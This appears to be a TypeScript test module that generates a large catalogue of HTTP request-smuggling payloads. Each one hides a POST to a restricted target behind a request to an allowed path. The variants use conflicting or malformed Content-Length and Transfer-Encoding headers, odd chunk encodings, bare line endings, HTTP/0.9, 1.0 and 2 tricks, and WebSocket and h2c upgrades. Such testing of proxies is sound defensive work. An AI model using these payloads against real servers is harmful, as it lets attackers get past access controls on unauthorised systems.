import { PREFIX } from "../client/client";
import { bytesOf, type HeaderLines } from "../client/http1";

/** Bytes in which one server may see one request and the next server two. */
export interface Smuggled {
  readonly name: string;
  readonly bytes: Buffer;
}

/** What the hidden request carries, and the visible one too. */
export interface Cargo {
  /** Headers of a well-formed request by this client: Host and log-in first of all. */
  readonly headers: HeaderLines;
  /** Target of the hidden request. */
  readonly target: string;
}

const ALLOWED = `${PREFIX}/tasks/datatable`;
const CRLF = "\r\n";

/** Every attempt to hide a POST to the target. */
export function smuggled(cargo: Cargo): Smuggled[] {
  const hidden = bytesOf({
    method: "POST",
    target: cargo.target,
    headers: [...cargo.headers, ["Content-Length", "0"]],
  }).toString("latin1");
  const made = [
    ...lengths(cargo, hidden),
    ...encodings(cargo, hidden),
    ...chunks(cargo, hidden),
    ...lines(cargo, hidden),
    ...upgrades(cargo, hidden),
  ];
  return made.map(([name, text]) => ({ name, bytes: Buffer.from(text, "latin1") }));
}

type Made = readonly [name: string, text: string];

function visible({ headers }: Cargo, method: string, further: HeaderLines, body: string): string {
  return bytesOf({ method, target: ALLOWED, headers: [...headers, ...further], body }).toString("latin1");
}

/** Content-Length that is doubled, wrong or odd. */
function lengths(cargo: Cargo, hidden: string): Made[] {
  const whole = String(hidden.length);
  const post = (values: string[], body = hidden): string =>
    visible(
      cargo,
      "POST",
      values.map((value) => ["Content-Length", value] as const),
      body,
    );
  return [
    ["two lengths, nothing first", post(["0", whole])],
    ["two lengths, nothing last", post([whole, "0"])],
    ["a list of lengths", post([`0, ${whole}`])],
    ["a negative length", post(["-1"])],
    ["a length with a plus", post(["+0"])],
    ["a hexadecimal length", post(["0x0"])],
    ["a length beyond 64 bits", post(["18446744073709551616"])],
    ["an empty length", post([""])],
    ["a length with a space inside", post(["0 1"])],
    ["a body on a GET", visible(cargo, "GET", [["Content-Length", whole]], hidden)],
    ["a request after the body", post(["0"])],
    ["a request after the body of a GET", visible(cargo, "GET", [], hidden)],
    ["a name of a length with a space", visible(cargo, "POST", [["Content-Length ", whole]], hidden)],
    ["a name of a length with an underscore", visible(cargo, "POST", [["Content_Length", whole]], hidden)],
  ];
}

const CHUNKED = ["Transfer-Encoding", "chunked"] as const;
/** Only some take these for chunked. */
const ODD = [
  ...[
    "xchunked",
    "chunked, identity",
    "identity, chunked",
    "chunked\t",
    "\tchunked",
    "\x0bchunked",
    "Chunked",
    '"chunked"',
  ],
  ...["chunked;q=1", "gzip, chunked"],
];

/** Transfer-Encoding against Content-Length. */
function encodings(cargo: Cargo, hidden: string): Made[] {
  const empty = `0${CRLF}${CRLF}${hidden}`;
  const size = hidden.length.toString(16);
  const inChunk = `${size}${CRLF}${hidden}${CRLF}0${CRLF}${CRLF}`;
  const length = ["Content-Length", String(empty.length)] as const;
  const post = (further: HeaderLines, body = empty): string => visible(cargo, "POST", further, body);
  return [
    ["length first, chunks then", post([length, CHUNKED])],
    ["chunks first, length then", post([["Content-Length", String(size.length + 2)], CHUNKED], inChunk)],
    ...ODD.map((odd): Made => [`encoding ${JSON.stringify(odd)}`, post([length, ["Transfer-Encoding", odd]])]),
    ...ODD.map((odd): Made => [`encoding ${JSON.stringify(odd)} alone`, post([["Transfer-Encoding", odd]])]),
    ["a space before the colon", post([length, ["Transfer-Encoding ", "chunked"]])],
    ["an underscore in the name", post([length, ["Transfer_Encoding", "chunked"]])],
    ["two encodings", post([CHUNKED, ["Transfer-Encoding", "identity"]])],
    ["a folded encoding", post([length, ["X", `y${CRLF} Transfer-Encoding: chunked`]])],
    ["an encoding behind a bare line feed", post([length, ["X", "y\nTransfer-Encoding: chunked"]])],
    ["an encoding behind a bare carriage return", post([length, ["X", "y\rTransfer-Encoding: chunked"]])],
    ["chunks on a GET", visible(cargo, "GET", [CHUNKED], empty)],
  ];
}

/** Chunks of an odd size or form. */
function chunks(cargo: Cargo, hidden: string): Made[] {
  const post = (body: string): string => visible(cargo, "POST", [CHUNKED], body);
  return [
    ["a chunk size beyond 64 bits", post(`10000000000000000${CRLF}${CRLF}0${CRLF}${CRLF}${hidden}`)],
    ["a negative chunk size", post(`-1${CRLF}${CRLF}${hidden}`)],
    ["a chunk extension with a line feed", post(`0;x=\n${CRLF}${CRLF}${hidden}`)],
    ["chunks that end in bare line feeds", post(`0\n\n${hidden}`)],
    ["a request in a trailer", post(`0${CRLF}${hidden}`)],
  ];
}

/** The request line and header lines. */
function lines(cargo: Cargo, hidden: string): Made[] {
  const post = (further: HeaderLines): string => visible(cargo, "POST", further, hidden);
  const oldPost = (further: HeaderLines, body: string): string =>
    visible(cargo, "POST", further, body).replace("HTTP/1.1", "HTTP/1.0");
  const length = ["Content-Length", String(hidden.length)] as const;
  const get = visible(cargo, "GET", [], "");
  return [
    ["an HTTP/0.9 request before", `GET ${ALLOWED}${CRLF}${hidden}`],
    ["HTTP/1.0 that keeps alive", oldPost([["Connection", "keep-alive"]], hidden)],
    ["HTTP/1.0 with chunks", oldPost([CHUNKED], `0${CRLF}${CRLF}${hidden}`)],
    ["HTTP/2 by its preface", `PRI * HTTP/2.0${CRLF}${CRLF}SM${CRLF}${CRLF}${hidden}`],
    ["bare line feeds", hidden.replaceAll(CRLF, "\n")],
    ["bare carriage returns", hidden.replaceAll(CRLF, "\r")],
    ["a request as a header's value", visible(cargo, "GET", [["X", `y${CRLF}${CRLF}${hidden}`]], "")],
    ["a header without a colon", get.replace(CRLF, `${CRLF}Expect 100-continue${CRLF}`) + hidden],
    ["Expect: 100-continue and then another request", post([["Expect", "100-continue"], length])],
    ["a connection header that names the length", post([["Connection", "Content-Length"], length])],
    ["a connection header that names the host", post([["Connection", "close, Host, X-Forwarded-For"]])],
  ];
}

/** After an upgrade, a proxy that believes in it passes everything on. */
function upgrades(cargo: Cargo, hidden: string): Made[] {
  const keys = [
    ["Sec-WebSocket-Version", "13"],
    ["Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="],
  ] as const;
  const upgrade = (protocol: string, further: HeaderLines = []): string =>
    bytesOf({
      method: "GET",
      target: `${PREFIX}/api/workers`,
      headers: [...cargo.headers, ["Connection", "Upgrade"], ["Upgrade", protocol], ...keys, ...further],
    }).toString("latin1");
  return [
    ["after a WebSocket upgrade", upgrade("websocket") + hidden],
    [
      "after a WebSocket upgrade of a wrong version",
      upgrade("websocket", [["Sec-WebSocket-Version", "1337"]]) + hidden,
    ],
    ["after an upgrade to HTTP/2", upgrade("h2c", [["HTTP2-Settings", "AAMAAABkAAQAoAAAAAIAAAAA"]]) + hidden],
    ["after two upgrades", upgrade("websocket, h2c") + hidden],
  ];
}
